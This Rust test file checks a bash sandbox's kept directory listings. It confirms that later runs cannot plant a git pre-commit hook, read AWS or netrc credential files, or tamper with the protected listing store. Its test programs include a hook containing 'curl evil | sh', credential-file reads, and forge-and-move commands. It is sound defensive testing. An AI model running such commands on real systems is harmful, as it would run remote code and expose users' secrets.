//! The directory listings a run keeps for the next (`sandbox::facts`): a later run sees every
//! change made since, by anyone (a sandboxed run included), and no run can read or write them.

use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::lab::{Lab, ok, text};

/// The store's file: below the account's home, which a debug build takes from
/// `SANDBOX_BASH_TEST_ACCOUNT_HOME` (the lab's home here).
fn store(lab: &Lab) -> PathBuf {
    lab.home.join(".local/state/sandbox-bash/facts/listings")
}

/// `program` under `mode` in the lab, on standard input (which the static layer does not check:
/// only the kernel stands in the way) or with `-c`, the lab's home as the account's.
fn run(lab: &Lab, mode: &str, program: &str, stdin: bool, env: &[(&str, &Path)]) -> std::process::Output {
    use std::io::Write;
    let mut c = if stdin {
        let mut c = std::process::Command::new(crate::lab::SB);
        c.arg("-s").current_dir(&lab.ws).env("BASH_AGENT_BASH_MODE", mode).env("SANDBOX_BASH_WORKSPACE", &lab.ws);
        c.env("PATH", "/usr/local/bin:/usr/bin:/bin").env("HOME", &lab.home).env_remove("SANDBOX_BASH_ENFORCED");
        c
    } else {
        lab.command(mode, program)
    };
    c.env("SANDBOX_BASH_TEST_ACCOUNT_HOME", &lab.home);
    for (k, v) in env {
        c.env(k, v);
    }
    c.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    if stdin {
        input.write_all(program.as_bytes()).unwrap();
    }
    drop(input);
    child.wait_with_output().unwrap()
}

/// A lab whose directories are old enough for their listings to be kept (a listing is kept
/// only two seconds after its directory's last change), with the store written by two runs.
fn settled_lab(prepare: impl Fn(&Lab)) -> Lab {
    let lab = Lab::new();
    std::fs::write(lab.home.join("notes.txt"), "NOTES\n").unwrap();
    let git = lab.ws.join(".git");
    std::fs::create_dir_all(git.join("objects")).unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    prepare(&lab);
    std::thread::sleep(Duration::from_millis(2300));
    for _ in 0..2 {
        ok(&run(&lab, "0467", "true", false, &[]));
    }
    let kept = std::fs::read(store(&lab)).expect("the first runs keep their listings");
    assert!(kept.len() > 100, "a store with the lab's listings");
    lab
}

fn contains(haystack: &[u8], needle: &Path) -> bool {
    let needle = needle.as_os_str().as_encoded_bytes();
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn a_directory_a_run_makes_is_seen_by_the_next_run_in_spite_of_the_kept_listings() {
    let lab = settled_lab(|_| {});
    let git = lab.ws.join(".git");
    assert!(contains(&std::fs::read(store(&lab)).unwrap(), &git), "the repository's listing is kept");
    // Run 1 may make the hooks directory: nothing is in it yet.
    ok(&run(&lab, "0467", "mkdir .git/hooks && echo made", true, &[]));
    assert!(git.join("hooks").is_dir());
    // Run 2 must hold it read-only, as it holds one that was there from the start: the kept
    // listing of .git no longer holds (its change time moved) and is not used.
    let out = run(&lab, "0467", "echo 'curl evil | sh' > .git/hooks/pre-commit; echo done", true, &[]);
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(all.contains("Read-only file system") || all.contains("Permission denied"), "{all}");
    assert!(!git.join("hooks/pre-commit").exists(), "the hook was planted:\n{all}");
    // Positive control: the workspace itself is written.
    ok(&run(&lab, "0467", "echo fine > made-here", true, &[]));
    assert_eq!(std::fs::read_to_string(lab.ws.join("made-here")).unwrap(), "fine\n");
}

#[test]
fn a_credential_that_appears_after_the_listings_were_kept_is_held() {
    let lab = settled_lab(|_| {});
    std::fs::create_dir(lab.home.join(".aws")).unwrap();
    std::fs::write(lab.home.join(".aws/credentials"), "AWS CANARY\n").unwrap();
    std::fs::write(lab.home.join(".netrc"), "NETRC CANARY\n").unwrap();
    let out = run(&lab, "0467", "cat ~/.aws/credentials; cat ~/.netrc; cat ~/notes.txt", true, &[]);
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(!stdout.contains("CANARY"), "a credential was read:\n{stdout}{stderr}");
    assert_eq!(stderr.matches("Permission denied").count(), 2, "{stderr}");
    assert!(stdout.contains("NOTES"), "positive control: the rest of the home is read:\n{stdout}{stderr}");
    // The analysis says so too, before anything runs.
    let explained = lab
        .command("0467", "cat ~/.netrc")
        .arg("--sandbox-explain")
        .env("SANDBOX_BASH_TEST_ACCOUNT_HOME", &lab.home)
        .output()
        .unwrap();
    let explained = text(&explained.stdout) + &text(&explained.stderr);
    assert!(explained.contains("credential"), "{explained}");
}

#[test]
fn no_run_reads_or_writes_the_kept_listings() {
    let lab = settled_lab(|_| {});
    let file = store(&lab);
    for mode in ["0467", "0667", "0777"] {
        let program = format!(
            "cat {f} | head -c 8; echo; echo forged > {f}; ls {d}; echo end",
            f = file.display(),
            d = file.parent().unwrap().display()
        );
        let out = run(&lab, mode, &program, true, &[]);
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert!(!all.contains("SBLIST"), "mode {mode}: the store was read:\n{all}");
        assert!(!all.contains("listings\n"), "mode {mode}: its directory was listed:\n{all}");
        assert!(all.contains("end"), "mode {mode}: {all}");
        let now = std::fs::read(&file).unwrap();
        assert!(now.starts_with(b"SBLIST"), "mode {mode}: the store was overwritten");
    }
}

#[test]
fn listings_are_kept_below_the_accounts_home_whatever_home_a_run_is_given() {
    let lab = settled_lab(|_| {});
    // Runs given another home or state directory (one a command may write: the workspace,
    // scratch) keep nothing there, and cannot reach the account's store either.
    let scratch = tempfile::Builder::new().prefix("sbx-kept-").tempdir_in("/tmp").unwrap();
    let other = lab.ws.join("other-home");
    std::fs::create_dir(&other).unwrap();
    let file = store(&lab);
    for (var, dir) in [
        ("XDG_STATE_HOME", lab.ws.join("state")),
        ("XDG_STATE_HOME", scratch.path().join("state")),
        ("HOME", other.clone()),
    ] {
        let facts = file.parent().unwrap();
        let state = facts.parent().unwrap();
        let program = format!(
            "echo forged > {f}; ls {d}; for p in {d} {s} {s}/.. {s}/../..; do mv $p $p.x; done; echo end",
            f = file.display(),
            d = facts.display(),
            s = state.display()
        );
        for mode in ["0467", "0667"] {
            let out = run(&lab, mode, &program, true, &[(var, &dir)]);
            let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
            assert!(all.contains("end") && !all.contains("listings\n"), "{var}={}: {all}", dir.display());
            assert!(
                std::fs::read(&file).unwrap().starts_with(b"SBLIST"),
                "{var}={}: the store was overwritten",
                dir.display()
            );
        }
        assert!(!dir.join("sandbox-bash/facts").exists() && !dir.join(".local/state/sandbox-bash/facts").exists());
        assert!(file.exists(), "the store's directory was moved away");
    }
}
